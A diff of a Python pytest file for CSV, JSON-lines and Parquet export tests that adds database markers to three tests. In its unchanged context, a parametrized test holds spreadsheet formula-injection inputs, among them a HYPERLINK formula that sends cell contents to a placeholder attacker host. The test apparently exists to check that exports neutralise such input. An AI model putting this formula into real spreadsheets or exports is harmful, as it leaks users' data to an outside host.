@@ -123,6 +123,7 @@ class TestFiles:
         assert len(set(header.split(b","))) == len(header.split(b","))
         assert csv_rows(made, "schede")[0]["R16"] == REPORT
 
+    @pytest.mark.one_database
     @pytest.mark.parametrize(
         "text", ['=HYPERLINK("http://evil.example?x="&A1,"Leggi")', "- attività\n- spese", "'=1", "@x"]
     )
@@ -139,6 +140,7 @@ class TestFiles:
         assert "apostrofo" in told["schede.csv"]
         assert not told["schede.parquet"]
 
+    @pytest.mark.one_database
     @pytest.mark.usefixtures("sent")
     @pytest.mark.parametrize("table", TABLES)
     def test_json_lines_hold_the_rows_of_the_csv(self, world: World, table: str) -> None:
@@ -146,6 +148,7 @@ class TestFiles:
         rows = json_rows(made, table)
         assert [{name: written(value) for name, value in row.items()} for row in rows] == csv_rows(made, table)
 
+    @pytest.mark.one_database
     @pytest.mark.usefixtures("sent")
     @pytest.mark.parametrize("table", TABLES)
     def test_duckdb_finds_the_rows_of_the_csv_in_the_parquet(self, world: World, table: str) -> None:
